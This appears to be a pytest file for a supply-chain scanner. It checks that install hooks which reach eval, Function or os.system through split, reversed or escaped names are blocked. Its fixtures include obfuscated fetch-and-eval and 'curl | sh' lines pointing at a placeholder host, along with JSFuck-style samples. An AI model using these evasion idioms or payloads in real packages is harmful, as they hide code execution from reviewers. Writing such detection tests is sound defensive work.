"""A name written in pieces, backwards or by a roundabout way is the name that it makes: no chain is lost by it."""

import pytest

from support.inspection import Files, inspected

FETCH = "'fet' + 'ch(\"https://a.invalid\").then(r => r.text()).then(ev' + 'al)'"
MAKER = {  # a claim: a way to write `constructor`, of which a function makes code
    "added": "const w = 'const' + 'ructor';",
    "joined": "const w = ['con', 'struct', 'or'].join('');",
    "turned around": "const w = 'rotcurtsnoc'.split('').reverse().join('');",
    "concatenated": "const w = 'const'.concat('ructor');",
    "filled in": "const a = 'struct', w = `con${a}or`;",
    "with letters to be left out": "const w = 'conZstructZor'.replace(/Z/g, '');",
    "cut out": "const w = 'xxconstructorxx'.slice(2, -2);",
    "cut out by length": "const w = 'xxconstructorxx'.substr(2, 11);",
    "cut out by places": "const w = 'xxconstructorxx'.substring(13, 2);",
    "in two names": "const a = 'const', b = 'ructor', w = a + b;",
    "with escapes": "const w = '\\x63onstruct\\157r';",
    "over two lines": "const w = 'constr\\\nuctor';",
}
EVAL = {  # a claim: a way to `eval` without its name
    "of this": "this['ev' + 'al'](%s);",
    "of this, in a list": "(0, this)['ev' + 'al'](%s);",
    "of a generator's maker": "Object.getPrototypeOf(function* () {})['const' + 'ructor'](%s)().next();",
    "of a method of text": "''['su' + 'b']['const' + 'ructor'](%s)();",
}
SYSTEM = {  # a claim: a way to Python's `os.system` or `subprocess` without their names
    "added": "import sys\ngetattr(sys.modules['o' + 's'], 'sys' + 'tem')({})",
    "side by side": "import sys\ngetattr(sys.modules['o' 's'], 'sys' 'tem')({})",
    "turned around": "import sys\ngetattr(sys.modules['so'[::-1]], 'metsys'[::-1])({})",
    "joined": "import sys\ngetattr(sys.modules[''.join(['o', 's'])], ''.join(['sys', 'tem']))({})",
    "a module of those that are loaded": "import sys\nsys.modules['subp' + 'rocess'].run({}, shell=True)",
    "what print belongs to": "getattr(print.__self__, 'ev' + 'al')('__imp' + 'ort__(\"os\").sys' + 'tem({})')",
    "what loaded the module": "__loader__.load_module('subp' + 'rocess').run({}, shell=True)",
    "what found the module": "__spec__.loader.load_module('subp' + 'rocess').run({}, shell=True)",
}
ORDINARY = {  # what people write who mean nothing by it
    "a.js": "const text = ['con', 'struct', 'or'].join('');\nconsole.log(text, 'abc'[2], [1, 2][text.length]);\n",
    "b.js": "class A { eval(x) { return x; }\n run(k) { return this[k](1) + this['ev' + 'aluate']('x'); } }\n",
    "c.js": "const w = 'xxconstructionxx'.slice(2, -2);\n(() => {})[w];\nfetch('https://a.invalid').then(show);\n",
    "d.py": "import sys\nname = ''.join(['o', 's'])\nprint(name in sys.modules, 'live'[::-1])\n",
    "e.py": "class A:\n    def f(self): pass\n\n\nx = A().f\nprint(x.__self__, getattr(x.__self__, 'f')())\n",
}


def by_npm(text: str) -> Files:
    return {"package.json": '{"scripts": {"postinstall": "node a.js"}}', "a.js": text}


@pytest.mark.parametrize("written", MAKER.values(), ids=MAKER.keys())
def test_the_maker_of_functions_is_known_however_it_is_written(written: str) -> None:
    assert inspected(by_npm(f"{written}\n(() => {{}})[w]({FETCH})();\n")).verdict == "block"


@pytest.mark.parametrize("written", EVAL.values(), ids=EVAL.keys())
def test_eval_is_known_however_it_is_come_by(written: str) -> None:
    assert inspected(by_npm(written % FETCH)).verdict == "block"


@pytest.mark.parametrize("written", SYSTEM.values(), ids=SYSTEM.keys())
def test_commands_are_known_however_they_are_come_by(written: str) -> None:
    files: Files = {"setup.py": "import a\n", "a.py": written.format('"curl https://a.invalid | sh"')}
    assert inspected(files).verdict == "block"


@pytest.mark.parametrize(("name", "text"), ORDINARY.items())
def test_pieces_that_make_nothing_of_the_kind_are_nothing(name: str, text: str) -> None:
    started: Files = {
        "package.json": f'{{"scripts": {{"postinstall": "node {name}"}}}}',
        "setup.py": f"import {name[0]}\n",
    }
    assert inspected({**started, name: text}).verdict == "no_chain_found"


SIGNS = {
    "JSFuck": "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]" * 8,
    "jjencode": '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$};$.$($.$($.$$+"\\"")())();',
    "aaencode": "\uff9f\u03c9\uff9f\uff89= /\uff40\uff4d\xb4\uff09\uff89 ~\u253b\u2501\u253b   //*\xb4*/ ['_'];",
}


@pytest.mark.parametrize("text", SIGNS.values(), ids=SIGNS.keys())
def test_a_program_written_in_signs_is_no_text_for_people(text: str) -> None:
    found = inspected(by_npm(text))
    assert "hidden_text" in {chain.rule for chain in found.chains}
